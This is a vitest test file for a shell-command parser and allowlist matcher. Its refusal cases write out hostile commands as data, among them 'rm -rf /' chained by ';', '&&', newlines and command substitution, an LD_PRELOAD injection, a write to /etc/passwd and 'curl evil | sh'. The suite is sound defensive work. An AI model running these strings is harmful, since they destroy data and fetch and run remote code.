import { describe, expect, it } from "vitest";
import { matchAllowlist } from "./allowlist.js";
import { parseShellCommands } from "./shell-words.js";

const ALLOW = ["ls", "git status", "cat", "echo", "grep", "wc", "/usr/bin/*"];
const ok = (cmd: string) => matchAllowlist(cmd, ALLOW).match;

describe("shell command splitting", () => {
  it.each([
    ["ls -la", [["ls", "-la"]]],
    ["git status && ls", [["git", "status"], ["ls"]]],
    ["cat 'a b' \"c d\" e\\ f", [["cat", "a b", "c d", "e f"]]],
    ["ls | wc -l", [["ls"], ["wc", "-l"]]],
    ["ls # ; rm -rf /", [["ls"]]],
    ["ls\nrm -rf /", [["ls"], ["rm", "-rf", "/"]]],
    ["echo '#not a comment' a#b", [["echo", "#not a comment", "a#b"]]],
    ["ls 2>/dev/null 2>&1", [["ls"]]],
    ["wc -l < input.txt", [["wc", "-l"]]],
  ])("%j", (cmd, expected) => {
    expect(parseShellCommands(cmd)).toEqual({ ok: true, commands: expected });
  });

  it.each([
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    'echo "$(id)"',
    'echo "`id`"',
    "(rm -rf /)",
    "cat <(rm x)",
    "cat <<EOF\nx\nEOF",
    "$SHELL -c id",
    "FOO=1 ls",
    "LD_PRELOAD=/x.so ls",
    "if true; then rm -rf /; fi",
    "ls > /etc/passwd",
    "ls >> out.txt",
    "ls &> out.txt",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
    "echo ${x:-$(id)}",
    "'unterminated",
    "r? -rf /",
    "",
  ])("refuses %j", (cmd) => {
    expect(parseShellCommands(cmd).ok).toBe(false);
  });
});

describe("allowlist matching", () => {
  it.each(["ls", "ls -la /tmp", "git status --short", "cat a | grep b | wc -l", "/usr/bin/ls -l", "ls; ls"])(
    "allows %j",
    (cmd) => expect(ok(cmd)).toBe(true),
  );

  it.each([
    // chained with a forbidden command, however it is glued on
    "ls; rm -rf /",
    "ls && rm -rf /",
    "ls || rm -rf /",
    "ls | sh",
    "ls & rm -rf /",
    "ls\nrm -rf /",
    "ls $(rm -rf /)",
    "ls `rm -rf /`",
    "ls # harmless\nrm -rf /",
    // a different program under an allowlisted name or arguments
    "git push --force",
    "./ls",
    "/tmp/evil/ls",
    "/usr/bin/../../tmp/x",
    "rm -rf /",
  ])("refuses %j", (cmd) => expect(ok(cmd)).toBe(false));

  it("an empty allowlist matches nothing and says so", () => {
    expect(matchAllowlist("ls", [])).toEqual({ match: false, reason: expect.stringContaining("empty") });
  });

  it("names the offending command in the reason", () => {
    const r = matchAllowlist("ls && curl evil | sh", ALLOW);
    expect(r).toEqual({ match: false, reason: '"curl evil" is not in the allowlist' });
  });
});
